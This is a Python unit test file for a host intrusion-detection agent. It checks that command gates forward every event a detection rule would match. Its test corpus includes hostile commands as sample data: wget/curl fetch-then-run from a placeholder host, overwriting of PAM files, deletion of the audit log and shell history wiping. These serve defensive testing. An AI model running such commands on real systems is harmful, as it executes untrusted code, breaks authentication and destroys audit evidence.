"""The command gates (detections/gate.py) skip only events a rule would have let go.

Property-style: exec and typed events are generated from each built-in command rule's own
patterns (texts its regex matches, from the pattern's parse tree), its gate's process names,
fetch-then-run sequences, ordinary commands and malformed shapes. Every event a rule really
matches (its own check, unchanged) must be let through to it, and a stage with the gates
must give the same alerts and keep the same rule state as one that runs every routed rule."""

from __future__ import annotations

import copy
import json
import random
import re
from re import _parser as P

from agent.base.events import HostInfo, base_doc, make_event_id
from agent.pipeline.detections.engine import DetectionStage
from agent.pipeline.detections.gate import EXEC, TYPED, CommandRoute, Gate
from agent.pipeline.detections.literals import Gated
from agent.pipeline.detections.rules import BUILTIN
from tests.unit.test_detections_literals import _sample, _variants

HOST = HostInfo("bastion", "hid", "boot")
T0 = 1_800_000_000.0
QUIET = ["ls -la /tmp", "/bin/echo x 12", "cat /etc/hostname", "less notes.txt", "ps aux", "tail -f /var/log/syslog",
         "true"]
ORDINARY = QUIET + ["vim notes.txt", "sync", "rsync -a a/ b/", "grep -r func src"]  # let through: the rules decide


def exec_doc(n: int, cmd, name=None, args=None, user="alice", **proc):
    d = base_doc(host=HOST, timestamp=T0 + n, event_id=make_event_id("g", n), module="auditd",
                 dataset="auditd.process", action="exec", outcome="success")
    if isinstance(cmd, str) and name is None:
        name = cmd.split(" ", 1)[0].rsplit("/", 1)[-1] or None
    d["process"] = {"name": name, "command_line": cmd, "executable": f"/usr/bin/{name}",
                    "args": args if args is not None else (cmd.split() if isinstance(cmd, str) else []),
                    "working_directory": "/home/alice", **proc}
    d["user"] = {"name": user, "id": "1001"}
    d["session"] = {"id": f"hid:boot:{n % 97}", "user": user}  # few throttled: alerts to compare
    return d


def typed_doc(n: int, lines):
    d = base_doc(host=HOST, timestamp=T0 + n, event_id=make_event_id("g", n), module="auditd",
                 dataset="auditd.tty", action="typed", outcome="success")
    d["keystrokes"] = {"lines": lines}
    d["session"] = {"id": f"hid:boot:{n % 97}", "user": "alice"}
    return d


def command_rules():
    return [cls for cls in BUILTIN if set(cls.datasets or ()) & {EXEC[0], TYPED[0]}]


def corpus() -> list:
    """Command events: matches generated from every gated pattern, the gates' names, downloads
    run later, ordinary work, and shapes no collector makes."""
    rnd = random.Random(15)
    texts = list(ORDINARY)
    for cls in command_rules():
        assert cls.gate is not None, f"{cls.id} reads commands but declares no gate"
        for g in cls.gate.patterns:
            tree = list(P.parse(g.pattern, g.rx.flags))
            for _ in range(40):
                texts += [t for t in _variants(_sample(tree, rnd), rnd) if g.rx.search(t)]
        for name in cls.gate.names:
            texts += [f"{name} -f /etc/pam.d/sshd", f"{name} /var/log/audit/audit.log", f"{name} x"]
    texts += ["wget http://203.0.113.5/x.sh", "chmod +x x.sh", "./x.sh", "curl -o /tmp/t http://h/t",
              "sh /tmp/t", "bash x.sh", "dd if=/dev/zero of=/etc/pam.d/su", "tee /etc/pam.d/common-auth"]
    docs = []
    for i, t in enumerate(texts):
        docs.append(exec_doc(len(docs), t))
        if i % 3 == 0:
            docs.append(typed_doc(len(docs), [t, "exit"]))
    # Not what a collector makes: every rule must still judge these as before.
    docs += [exec_doc(len(docs), ["history", "-c"], name="bash"), exec_doc(len(docs) + 1, "rm x", name=["rm"]),
             exec_doc(len(docs) + 2, "", name="rm"), exec_doc(len(docs) + 3, None, name="curl"),
             typed_doc(len(docs) + 4, "history -c"), typed_doc(len(docs) + 5, [None, 3, "unset HISTFILE"])]
    bare = exec_doc(len(docs), "x")
    bare["process"] = "not a dict"
    return docs + [bare]


def test_every_event_a_command_rule_matches_passes_its_gate():
    stage = DetectionStage({}, HOST)
    matched: dict = {}
    for doc in corpus():
        ds, action = doc["event"]["dataset"], doc["event"]["action"]
        action_wanted, route = stage.commands[ds]
        assert action == action_wanted
        let_through = route.select(doc)  # decided before the rules see the event, as in apply()
        for rule in stage.route[ds]:
            try:
                hits = rule.check(doc, T0)
            except Exception:  # a malformed event a rule chokes on: it must still be let through
                hits = ["raised"]
            if hits:
                assert rule in let_through, (rule.id, doc["process"] if ds == EXEC[0] else doc["keystrokes"])
                matched[rule.id] = matched.get(rule.id, 0) + 1
    # The generated events exercise every command rule, not just the gates' "no" answers.
    assert set(matched) == {cls.id for cls in command_rules()}, matched
    assert min(matched.values()) >= 5, matched


def test_gates_skip_ordinary_commands():
    stage = DetectionStage({}, HOST)
    _, route = stage.commands[EXEC[0]]
    for i, t in enumerate(QUIET):
        assert route.select(exec_doc(i, t)) == (), t
    assert [r.key for r in route.select(exec_doc(99, "rm /var/log/audit/audit.log"))] == \
        ["audit_log_tampered", "pam_tty_audit_removed"]
    assert [r.key for r in stage.commands[TYPED[0]][1].select(typed_doc(1, ["ls", "history -c"]))] == ["history_wipe"]


def test_a_remembered_download_opens_the_gate_for_every_exec():
    stage = DetectionStage({}, HOST)
    _, route = stage.commands[EXEC[0]]
    assert route.select(exec_doc(1, "/tmp/x.sh")) == ()
    stage.apply(exec_doc(2, "wget http://203.0.113.5/x.sh"))  # saved in /home/alice
    assert [r.key for r in route.select(exec_doc(3, "ls"))] == ["download_and_run"]
    [alert] = stage.apply(exec_doc(4, "/home/alice/x.sh", executable="/home/alice/x.sh"))
    assert alert["rule"]["id"] == "agentd-download-and-run"


def test_a_rule_without_a_gate_or_with_an_unknown_literal_sees_every_command():
    class Plain:
        gate = None
        state: dict = {}

    class Unknown:
        gate = Gate(patterns=(Gated(re.compile(r"\d+")),))
        state: dict = {}

    a, b = Plain(), Unknown()
    route = CommandRoute((a, b), is_exec=True)
    assert route.select(exec_doc(1, "ls")) == (a, b)


def test_the_stage_with_gates_gives_the_same_alerts_and_state_as_without():
    docs = corpus()
    gated, every = DetectionStage({}, HOST), DetectionStage({}, HOST)
    every.commands = {}  # every routed rule runs on every event, as before the gates
    out_g = [a for d in docs for a in gated.apply(copy.deepcopy(d))]
    out_e = [a for d in docs for a in every.apply(copy.deepcopy(d))]
    assert len(out_g) > 20
    assert json.dumps(out_g, sort_keys=True) == json.dumps(out_e, sort_keys=True)
    assert json.dumps(gated.state, sort_keys=True) == json.dumps(every.state, sort_keys=True)
    assert gated.stats == every.stats
